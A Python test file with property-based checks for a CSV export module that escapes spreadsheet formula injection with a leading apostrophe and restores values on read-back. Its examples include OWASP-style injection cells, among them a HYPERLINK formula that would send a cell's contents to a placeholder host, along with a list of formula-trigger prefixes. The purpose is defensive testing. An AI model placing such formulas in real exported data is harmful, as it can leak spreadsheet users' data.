"""Spreadsheet-safe cells: nothing we write can start a formula, and what we write reads
back exactly as it was."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from desktop.core.spreadsheet_cells import csv_text, neutralised, restored

# What Excel, LibreOffice and Google Sheets may read as the start of a formula (OWASP).
RISKY = ("=", "+", "-", "@", "\t", "\r")

# Cells full of what a spreadsheet must never run, and apostrophes in front of them.
hostile_text = st.text(
    alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " ", "'", '"', ",", ";", "a", "1", "ŵ"]),
    max_size=12,
)
any_text = st.one_of(st.text(), hostile_text)


def _read(text: str) -> list[list[str]]:
    return [[restored(c) for c in row] for row in csv.reader(io.StringIO(text, newline=""))]


def _could_run(cell: str) -> bool:
    return cell.startswith(RISKY) or cell.lstrip().startswith(RISKY[:4])


@given(st.lists(st.lists(any_text, min_size=1, max_size=5), max_size=6), st.lists(any_text, min_size=1))
def test_a_table_written_and_read_back_is_the_same_table(rows: list[list[str]], header: list[str]) -> None:
    width = len(header)
    table = [[*row, *[""] * width][:width] for row in rows]
    assert _read(csv_text(header, table)) == [header, *table]


@given(any_text)
def test_no_written_cell_can_start_a_formula(value: str) -> None:
    cell = neutralised(value)
    assert not _could_run(cell)
    assert restored(cell) == value
    assert cell == value or cell == "'" + value  # at most the one apostrophe is added


def test_the_owasp_examples_are_marked_and_plain_text_is_left_alone() -> None:
    examples = {
        '=HYPERLINK("http://example.invalid/?x="&A1,"Open")': '\'=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
        "=1+1": "'=1+1",
        "+1+1": "'+1+1",
        "-1+1": "'-1+1",
        "@SUM(1,1)": "'@SUM(1,1)",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "  =1+1": "'  =1+1",
        "'=1+1": "''=1+1",  # an apostrophe a person typed survives the round trip
        "HC-001": "HC-001",
        "Risk was not assessed - see log.": "Risk was not assessed - see log.",
        "'quoted'": "'quoted'",
        "": "",
    }
    for value, written in examples.items():
        assert neutralised(value) == written
        assert restored(written) == value


def test_numbers_and_empty_cells_are_written_as_text() -> None:
    text = csv_text(["n", "missing", "negative"], [[3, None, -2]])
    assert text == "n,missing,negative\r\n3,,'-2\r\n"
